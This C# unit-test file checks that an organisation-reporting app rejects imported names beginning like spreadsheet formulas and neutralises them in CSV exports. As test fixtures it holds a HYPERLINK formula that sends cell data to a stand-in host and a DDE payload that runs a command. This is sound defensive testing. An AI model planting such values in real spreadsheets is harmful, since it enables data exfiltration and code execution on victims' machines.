using System.Text;
using PartyFunctions.AnnualRun;
using PartyFunctions.Classification;
using PartyFunctions.Organisation;
using PartyFunctions.Presentation.AnnualRun;
using PartyFunctions.Presentation.Status;
using PartyFunctions.Scoring;
using PartyFunctions.Status;
using PartyFunctions.Submissions;

namespace PartyFunctions.UnitTests.Security;

/// <summary>Issue 15 item 4: a unit name that a spreadsheet would run as a formula never reaches a sheet as one.</summary>
public sealed class CsvInjectionTests
{
    private const string Header = "id,parent,kind,name,activeFrom,activeTo,secretaryEmail,officeEmail,assignedMemberName,assignedMemberEmail";
    private const string Formula = "=HYPERLINK(\"https://x.example/?c=\"&E2,\"Xem\")";

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+84 xã")]
    [InlineData("-Chi bộ")]
    [InlineData("@SUM(A1)")]
    public void Import_refuses_a_name_that_starts_like_a_formula_and_says_why(string name)
    {
        var file = Encoding.UTF8.GetBytes($"{Header}\nA,,province,Tỉnh,2020-01-01,,,vp@a.vn,,\nA.C,A,cell,\"{name.Replace("\"", "\"\"", StringComparison.Ordinal)}\",2020-01-01,,,,,\n");

        var (rows, errors) = UnitCsv.Read(file);

        Assert.DoesNotContain(rows, r => r.Unit.Id == "A.C");
        Assert.Contains(errors, e => e.Line == 3 && e.Message.Contains("công thức", StringComparison.Ordinal) && e.Message.Contains("formula", StringComparison.Ordinal));
    }

    [Fact]
    public void Import_refuses_an_assigned_member_name_that_starts_like_a_formula()
    {
        var file = Encoding.UTF8.GetBytes($"{Header}\nA,,province,Tỉnh,2020-01-01,,,vp@a.vn,\"{Formula.Replace("\"", "\"\"", StringComparison.Ordinal)}\",m@a.vn\n");

        Assert.Contains(UnitCsv.Read(file).Errors, e => e.Line == 2);
    }

    [Fact]
    public void The_status_csv_writes_a_stored_formula_name_as_text()
    {
        var report = new StatusReport("A", "Tỉnh", new ScorePeriod(2025, 11), DateTimeOffset.UnixEpoch,
            [new StatusRow("A.C", Formula, "-Cấp trên", Status.SubmissionStatus.Submitted, Band.Good, 95m, [])]);

        var csv = Encoding.UTF8.GetString(StatusPages.StatusCsv(report));

        Assert.Contains(",\"'=HYPERLINK(", csv, StringComparison.Ordinal);
        Assert.Contains(",\"'-Cấp trên\",", csv, StringComparison.Ordinal);
        Assert.Contains(",95,", csv, StringComparison.Ordinal);
    }

    [Fact]
    public void The_annual_csv_writes_a_stored_formula_name_as_text()
    {
        var unit = new Unit("A", null, UnitKind.Province, "Tỉnh", new DateOnly(2020, 1, 1));
        var result = new AnnualResult(2025, "A.C", "@cmd|'/c calc'!A0", "A", "run", 12, 10, 12, 0, Band.Good, Level.Good, LevelReasons.None);

        var csv = new AnnualReportRenderer().Render(unit, new ClassificationRun("run", 2025, 12, "vn-2025", 1, DateTimeOffset.UnixEpoch), [result]).Csv;

        Assert.Contains(",\"'@cmd|", csv, StringComparison.Ordinal);
    }
}
